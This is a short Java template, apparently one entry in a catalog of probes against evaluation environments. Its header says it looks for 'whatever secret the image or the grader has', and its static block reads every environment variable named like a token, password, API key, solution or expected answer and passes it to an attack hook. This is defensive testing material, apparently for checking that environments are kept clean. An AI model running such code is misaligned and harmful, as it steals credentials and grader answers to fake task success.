// ---
// tries: Looks for tokens, keys and answers among the variables that it was given itself.
// place: before
// gain: whatever secret the image or the grader has in its environment
// helps: clean-environment
// ---
  static {
    System.getenv().forEach((name, value) -> {
      if (!name.matches("(?i).*(TOKEN|SECRET|PASSW|CREDENTIAL|PRIVATE|SOLUTION|ANSWER|EXPECTED|API_?KEY|ACCESS_?KEY).*")) return;
      Attack.read("the variable " + name, name + "=" + value);
    });
  }
@BODY@
